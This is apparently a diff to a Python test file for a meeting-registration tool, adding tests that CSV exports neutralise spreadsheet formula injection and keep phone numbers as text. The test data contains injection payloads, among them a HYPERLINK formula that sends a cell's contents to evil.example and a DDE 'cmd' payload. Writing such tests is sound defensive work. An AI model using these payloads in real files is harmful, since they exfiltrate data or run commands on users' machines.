@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import sqlite3
 from datetime import timedelta
@@ -231,16 +232,64 @@ def test_cli_export_csv_registrations_and_concerns(zone, counter, settings, tmp_
     assert set(data) == {"meetings", "registrations", "concerns"}
 
 
+HOSTILE = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_csv_cells_that_look_like_formulas_are_defused(text: str) -> None:
+    from cafepol_tui.documents.exports import concerns_csv, registrations_csv
+
+    row = {"reference": "ABC123", "name": text, "topic": text, "people": -1, "phone": "",
+           "waitlist_position": None}
+    back = next(csv.DictReader(io.StringIO(registrations_csv({"registrations": [row]})[1:])))
+    assert back["name"] == back["topic"] == "'" + text  # the text is kept, after the quote
+    assert back["people"] == "-1" and back["waitlist_position"] == ""  # our numbers as they are
+    concern = {"id": 1, "description": text, "place": "Rue =Haute", "wants_feedback": False}
+    back = next(csv.DictReader(io.StringIO(concerns_csv({"concerns": [concern]})[1:])))
+    assert back["description"] == "'" + text and back["place"] == "Rue =Haute"
+
+
+def test_csv_export_keeps_the_phone_plus_as_text(zone, settings, tmp_path):
+    for name, topic in (("Marie Dubois", "Stationnement - rue Haute"), ("=cmd", "-rien")):
+        register(
+            zone["soon"],
+            SignupForm(name=name, phone="0470 55 66 77", consent=True, topic=topic),
+            max_party=4,
+            topic_max=300,
+            now=FIXED_NOW,
+        )
+    out = tmp_path / "r.csv"
+    assert main(["--db", settings.database_url, "export", "csv", "--out", str(out)]) == 0
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["phone"] for r in rows] == ["'+32470556677"] * 2  # shown « +32470556677 », as text
+    assert (rows[0]["name"], rows[0]["topic"]) == ("Marie Dubois", "Stationnement - rue Haute")
+    assert (rows[1]["name"], rows[1]["topic"]) == ("'=cmd", "'-rien")
+    data = json.loads(
+        main(["--db", settings.database_url, "export", "json", "--out", str(tmp_path / "j.json")])
+        or (tmp_path / "j.json").read_text(encoding="utf-8")
+    )
+    assert {r["phone"] for r in data["registrations"]} == {"+32470556677"}  # JSON: for scripts
+
+
 def test_cli_purge_as_of(zone, settings, capsys):
     with time_machine.travel(FIXED_NOW - timedelta(days=10), tick=False):
         register(
             zone["past"], SignupForm(name=SECRET_NAME, consent=True), max_party=4, topic_max=300
         )
-    assert main(["--db", settings.database_url, "purge", "--as-of", "2026-12-20"]) == 0
-    assert "anonymised 0 registration" in capsys.readouterr().out
-    assert main(["--db", settings.database_url, "purge", "--as-of", "2026-12-26"]) == 0
-    assert "anonymised 1 registration" in capsys.readouterr().out
-    assert main(["--db", settings.database_url, "purge", "--as-of", "26/12/2026"]) == 2
+    with time_machine.travel(FIXED_NOW + timedelta(days=40), tick=False):  # 7 January 2027
+        assert main(["--db", settings.database_url, "purge", "--as-of", "2026-12-20"]) == 0
+        assert "anonymised 0 registration" in capsys.readouterr().out
+        assert main(["--db", settings.database_url, "purge", "--as-of", "2026-12-26"]) == 0
+        assert "anonymised 1 registration" in capsys.readouterr().out
+        assert main(["--db", settings.database_url, "purge", "--as-of", "26/12/2026"]) == 2
     err = capsys.readouterr().err
     assert err.count("\n") == 1 and "--as-of" in err
 
